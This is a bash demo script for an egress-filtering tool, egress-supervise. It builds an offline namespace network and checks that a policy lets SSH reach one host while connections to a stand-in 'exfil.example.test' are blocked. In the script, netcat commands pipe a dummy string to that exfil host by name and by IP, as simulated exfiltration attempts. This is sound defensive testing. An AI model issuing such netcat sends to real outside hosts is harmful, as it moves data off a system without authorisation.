#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# demo.sh - egress-supervise's main job, offline, in network namespaces
#
# Builds a small world (a client, a router with a DNS server, hosts on
# documentation addresses), then runs a shell under egress-supervise in the
# client with a policy that allows SSH to git.example.test and nothing else,
# and shows what each side saw: the client's results, the supervisor's log
# lines, and the packet counters of both hosts.  Run as root: `make demo`.
: "${ES_BIN:?ES_BIN must name the egress-supervise binary}"
. "$(dirname "$0")/../tests/integration/lib.sh"

say() { printf '\n\033[1m%s\033[0m\n' "$*"; }

if [ "$(id -u)" != 0 ]; then
	echo "demo: needs root to build network namespaces (sudo make demo)" >&2
	exit 1
fi
command -v dnsmasq >/dev/null || { echo "demo: needs dnsmasq" >&2; exit 1; }
world_up >/dev/null

# The world's DNS server, on the router
ip netns exec "$NS_NET" dnsmasq --keep-in-foreground --no-resolv --no-hosts \
	--bind-interfaces --listen-address=198.51.100.1 \
	--pid-file="$T/dnsmasq.pid" \
	--host-record=git.example.test,198.51.100.10 \
	--host-record=exfil.example.test,198.51.100.20 >/dev/null 2>&1 &
_world_pids="$_world_pids $!"
sleep 0.5

cat >"$T/policy.yaml" <<-'YAML'
	version: 1
	dns:
	  upstream: [198.51.100.1]
	rules:
	  - dst: git.example.test
	    proto: ssh
YAML

say "The world: client 192.0.2.2 -> router (DNS 198.51.100.1) -> git.example.test = 198.51.100.10, exfil.example.test = 198.51.100.20"
say "Policy ($T/policy.yaml):"
sed 's/^/  /' "$T/policy.yaml"
say "\$ egress-supervise --policy policy.yaml -- sh -c '...'"

in_client timeout 30 "$ES_BIN" --policy "$T/policy.yaml" --log "$T/decisions.log" -- \
	sh -c '
	echo "--- CMD: nc git.example.test 22          (allowed by name)"
	echo hello | nc -q 1 -w 3 git.example.test 22
	echo "(exit $?)"
	echo "--- CMD: nc exfil.example.test 22        (no rule: the name does not resolve)"
	echo hello | nc -q 1 -w 3 exfil.example.test 22
	echo "(exit $?)"
	echo "--- CMD: nc 198.51.100.20 22             (its IP, hard-coded)"
	echo hello | nc -q 1 -w 3 198.51.100.20 22
	echo "(exit $?)"
	' 2>&1 | sed 's/^/  /'

say "The supervisor's decisions (--log, JSON lines):"
sed 's/^/  /' "$T/decisions.log"

say "What the hosts saw (nftables counters on their side):"
echo "  git.example.test   198.51.100.10: $(world_count h10) packets from the client"
echo "  exfil.example.test 198.51.100.20: $(world_count h20) packets from the client"
if [ "$(world_count h20)" = 0 ] && [ "$(world_count h10)" != 0 ]; then
	say "demo: OK - the allowed connection went through, the others never left CMD"
	exit 0
fi
say "demo: FAILED - see above"
exit 1
